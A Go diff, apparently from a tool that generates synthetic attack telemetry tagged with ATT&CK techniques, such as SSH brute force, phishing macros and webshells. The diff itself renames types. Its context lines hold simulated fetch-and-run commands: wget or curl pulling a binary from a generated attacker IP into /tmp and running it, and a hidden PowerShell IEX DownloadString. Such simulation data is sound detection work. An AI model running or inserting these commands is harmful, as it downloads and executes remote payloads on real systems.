@@ -40,7 +40,7 @@ var sshValid = map[string]bool{"root": true, "ubuntu": true, "postgres": true, "
 
 func buildSSHBruteForce(b *builder) {
 	r, w := b.r, b.w
-	h := pick(r, []*Host{w.bastionHost, w.nginx[0], w.nginx[1], w.ciHost, w.pickLinux(r)})
+	h := pick(r, []*machine{w.bastionHost, w.nginx[0], w.nginx[1], w.ciHost, w.pickLinux(r)})
 	src := b.attackerIP()
 	users := []string{pick(r, []string{"root", "root", "ubuntu", "deploy", "git", "postgres"})}
 	if r.chance(0.4) {
@@ -79,22 +79,22 @@ func buildSSHBruteForce(b *builder) {
 	if !r.chance(0.6) {
 		return
 	}
-	bash := Proc{PID: pid + 2, Exe: "/usr/bin/bash", Cmd: "-bash"}
+	bash := proc{PID: pid + 2, Exe: "/usr/bin/bash", Cmd: "-bash"}
 	b.wait(3*time.Second, 40*time.Second)
-	b.add(b.tags("T1082")).linProcess(h, user, Proc{PID: pid + r.between(3, 20), Exe: "/usr/bin/uname", Cmd: "uname -a"}, bash)
+	b.add(b.tags("T1082")).linProcess(h, user, proc{PID: pid + r.between(3, 20), Exe: "/usr/bin/uname", Cmd: "uname -a"}, bash)
 	dl := src
 	if r.chance(0.5) {
 		dl = b.attackerIP()
 	}
 	name := pick(r, []string{".x", ".kworker", "x86_64", ".dbus", "sshd2"})
 	b.wait(5*time.Second, 60*time.Second)
-	get := Proc{PID: pid + r.between(21, 60), Exe: "/usr/bin/wget", Cmd: "wget -q http://" + dl + "/bins/x86_64 -O /tmp/" + name}
+	get := proc{PID: pid + r.between(21, 60), Exe: "/usr/bin/wget", Cmd: "wget -q http://" + dl + "/bins/x86_64 -O /tmp/" + name}
 	if r.chance(0.4) {
-		get = Proc{PID: get.PID, Exe: "/usr/bin/curl", Cmd: "curl -s -o /tmp/" + name + " http://" + dl + "/bins/x86_64"}
+		get = proc{PID: get.PID, Exe: "/usr/bin/curl", Cmd: "curl -s -o /tmp/" + name + " http://" + dl + "/bins/x86_64"}
 	}
 	b.add(b.tags("T1105")).linProcess(h, user, get, bash)
 	b.wait(1*time.Second, 10*time.Second)
-	sh := Proc{PID: pid + r.between(61, 90), Exe: "/usr/bin/bash", Cmd: "bash -c chmod +x /tmp/" + name + " && /tmp/" + name}
+	sh := proc{PID: pid + r.between(61, 90), Exe: "/usr/bin/bash", Cmd: "bash -c chmod +x /tmp/" + name + " && /tmp/" + name}
 	b.add(b.tags("T1059.004")).linProcess(h, user, sh, bash)
 }
 
@@ -132,7 +132,7 @@ func (b *builder) attackerWorkstation() string {
 
 func buildRDPBruteForce(b *builder) {
 	r, w := b.r, b.w
-	var h *Host
+	var h *machine
 	if r.chance(0.6) {
 		h = w.pickWinServer(r)
 	} else {
@@ -174,7 +174,7 @@ var sprayDecoys = []string{"administrator", "test", "guest", "scanner", "helpdes
 func buildPasswordSpray(b *builder) {
 	r, w := b.r, b.w
 	external := r.chance(0.6)
-	var target *Host
+	var target *machine
 	var src, ws string
 	if external {
 		target, src, ws = w.exch, b.attackerIP(), "-"
@@ -255,7 +255,7 @@ func (b *builder) downloadURL(exts []string) (u, host, reg, ip string) {
 
 // fetch adds the DNS lookup (when host is a name) and the connection of p
 // to ip, as seen by Sysmon and the firewall, with tg on the connection.
-func (b *builder) fetch(h *Host, u *User, p Proc, host, reg, ip string, port int, tg *tags, bytesIn int64) {
+func (b *builder) fetch(h *machine, u *person, p proc, host, reg, ip string, port int, tg *tags, bytesIn int64) {
 	r, w := b.r, b.w
 	if reg != "" {
 		b.add(b.none()).dns(h, u.Name, w.domain, p, b.g.resolver(h), host, "A", reg, ip)
@@ -280,20 +280,20 @@ func buildPhishingMacro(b *builder) {
 	u := h.User
 	word := r.chance(0.65)
 	ext := pick(r, []string{".docm", ".doc"})
-	office := Proc{PID: r.winPID(), Exe: pathWord}
+	office := proc{PID: r.winPID(), Exe: pathWord}
 	if !word {
 		ext = pick(r, []string{".xlsm", ".xls"})
 		office.Exe = pathExcel
 	}
 	name := b.g.expand(pick(r, lureNames), u.Name, h) + ext
 	var path string
-	var dropper Proc
+	var dropper proc
 	if r.chance(0.6) {
 		path = userDir(u, `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\`+r.letters(upperAN, 8)+`\`+name)
-		dropper = Proc{PID: r.winPID(), Exe: pathOutlook}
+		dropper = proc{PID: r.winPID(), Exe: pathOutlook}
 	} else {
 		path = userDir(u, `\Downloads\`+name)
-		dropper = Proc{PID: r.winPID(), Exe: pathChrome}
+		dropper = proc{PID: r.winPID(), Exe: pathChrome}
 	}
 	phish := b.tags("T1566.001")
 	b.add(phish).file(h, u.Name, w.domain, dropper, "file-created", path)
@@ -311,11 +311,11 @@ func buildPhishingMacro(b *builder) {
 	b.wait(2*time.Second, 20*time.Second)
 
 	dl, host, reg, ip := b.downloadURL([]string{".ps1", ".txt", ".hta", ".sct", ".png"})
-	child := Proc{PID: r.winPID()}
+	child := proc{PID: r.winPID()}
 	var childTags *tags
 	switch r.IntN(4) {
 	case 0: // cmd.exe, then PowerShell
-		cmd := Proc{PID: r.winPID(), Exe: pathCmd,
+		cmd := proc{PID: r.winPID(), Exe: pathCmd,
 			Cmd: `cmd.exe /c powershell -w hidden -nop -c "IEX(New-Object Net.WebClient).DownloadString('` + dl + `')"`}
 		b.add(b.tags("T1566.001", "T1204.002", "T1059.003")).winProcess(h, u.Name, w.domain, cmd, office, "Medium")
 		b.wait(20*time.Millisecond, 300*time.Millisecond)
@@ -376,7 +376,7 @@ func buildWebshell(b *builder) {
 	ua := pick(r, webshellUAs)
 	exploit := b.tags("T1190")
 	use := b.tags("T1505.003")
-	var srv *Host
+	var srv *machine
 	switch x := r.IntN(10); {
 	case x < 4:
 		srv = w.web
@@ -427,7 +427,7 @@ func buildWebshell(b *builder) {
 		shellPath = `/wp-content/uploads/2026/01/` + name + `.php`
 		procUser = "www-data"
 	}
-	phpFPM := Proc{PID: r.linuxPID(), Exe: "/usr/sbin/php-fpm8.1", Cmd: "php-fpm: pool www"}
+	phpFPM := proc{PID: r.linuxPID(), Exe: "/usr/sbin/php-fpm8.1", Cmd: "php-fpm: pool www"}
 	cmds := winShellCmds
 	if srv.OS == linux {
 		cmds = linShellCmds
@@ -440,16 +440,16 @@ func buildWebshell(b *builder) {
 		b.add(use).web(srv, src, r.port(), pick(r, []string{"GET", "POST"}), shellPath, q, 200, ua, int64(r.between(40, 3000)))
 		b.wait(5*time.Millisecond, 150*time.Millisecond)
 		if srv.OS == windows {
-			sh := Proc{PID: r.winPID(), Exe: pathCmd, Cmd: `cmd.exe /c ` + c.cmd}
+			sh := proc{PID: r.winPID(), Exe: pathCmd, Cmd: `cmd.exe /c ` + c.cmd}
 			b.add(b.tags("T1505.003", "T1059.003")).winProcess(srv, procUser, procDomain, sh, w3wpProc(srv), "High")
 			b.wait(5*time.Millisecond, 60*time.Millisecond)
-			leaf := Proc{PID: r.winPID(), Exe: c.exe, Cmd: c.cmd}
+			leaf := proc{PID: r.winPID(), Exe: c.exe, Cmd: c.cmd}
 			b.add(b.tags("T1505.003", c.tech)).winProcess(srv, procUser, procDomain, leaf, sh, "High")
 		} else {
-			sh := Proc{PID: r.linuxPID(), Exe: "/usr/bin/dash", Cmd: "sh -c " + c.cmd}
+			sh := proc{PID: r.linuxPID(), Exe: "/usr/bin/dash", Cmd: "sh -c " + c.cmd}
 			b.add(b.tags("T1505.003", "T1059.004")).linProcess(srv, procUser, sh, phpFPM)
 			b.wait(2*time.Millisecond, 30*time.Millisecond)
-			leaf := Proc{PID: sh.PID + 1, Exe: c.exe, Cmd: c.cmd}
+			leaf := proc{PID: sh.PID + 1, Exe: c.exe, Cmd: c.cmd}
 			b.add(b.tags("T1505.003", c.tech)).linProcess(srv, procUser, leaf, sh)
 		}
 	}
@@ -475,7 +475,7 @@ var wordlistExts = []string{"", "/", ".php", ".aspx", ".bak", ".zip", ".old", ".
 
 func buildWebScan(b *builder) {
 	r, w := b.r, b.w
-	srv := pick(r, []*Host{w.web, w.nginx[0], w.nginx[1], w.exch})
+	srv := pick(r, []*machine{w.web, w.nginx[0], w.nginx[1], w.exch})
 	src := b.attackerIP()
 	ua := b.g.expand(pick(r, scannerUAs), "", srv)
 	n := r.between(100, 400)
